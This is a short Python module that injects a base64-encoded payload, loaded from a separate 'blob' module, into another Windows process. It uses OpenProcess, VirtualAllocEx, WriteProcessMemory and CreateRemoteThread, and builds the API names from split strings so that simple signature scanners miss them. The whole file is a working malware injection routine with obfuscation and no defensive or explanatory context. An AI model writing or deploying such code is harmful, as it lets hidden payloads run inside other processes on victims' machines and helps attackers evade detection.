import ctypes, base64
from . import blob

def inject(pid):
    k = ctypes.WinDLL("kernel32")
    h = getattr(k, "Open" + "Process")(0x1F0FFF, False, pid)
    b = base64.b64decode(blob.B)
    a = getattr(k, "VirtualAlloc" + "Ex")(h, 0, len(b), 0x3000, 0x40)
    getattr(k, "Write" + "ProcessMemory")(h, a, b, len(b), 0)
    getattr(k, "CreateRemote" + "Thread")(h, None, 0, a, 0, 0, None)
